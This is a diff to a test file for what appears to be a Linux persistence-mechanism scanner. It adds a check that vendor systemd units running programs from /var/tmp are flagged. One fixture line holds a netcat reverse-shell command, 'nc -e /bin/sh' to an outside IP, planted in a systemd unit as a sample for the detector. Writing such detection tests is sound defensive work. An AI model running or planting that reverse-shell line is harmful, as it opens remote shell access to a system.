@@ -98,6 +98,7 @@ Deno.test("persistence: payloads and untrusted locations in every kind of point 
       "[Service]\nExecStart=/bin/sh -c 'nc -e /bin/sh 203.0.113.5 1'\n",
     "etc/systemd/system/local.service":
       "[Service]\nExecStartPre=/usr/bin/true\nExecStart=/var/tmp/.d/agent\n",
+    // A package's own unit is judged by what it runs too: no package runs a program from /var/tmp.
     "usr/lib/systemd/system/vendor.service": "[Service]\nExecStart=/var/tmp/vendor\n",
     "etc/rc.local": { content: "#!/bin/sh -e\n/usr/local/bin/startup\nexit 0\n", mode: 0o755 },
   }));
@@ -115,6 +116,7 @@ Deno.test("persistence: payloads and untrusted locations in every kind of point 
     "high persistence.command.untrusted_path /etc/systemd/system/local.service",
     "high persistence.command.untrusted_path /etc/udev/rules.d/99-x.rules",
     "high persistence.command.untrusted_path /etc/xdg/autostart/x.desktop",
+    "high persistence.command.untrusted_path /usr/lib/systemd/system/vendor.service",
     "high persistence.command.untrusted_path /var/spool/cron/crontabs/bob",
     "low persistence.rc_local.active /etc/rc.local",
   ]);
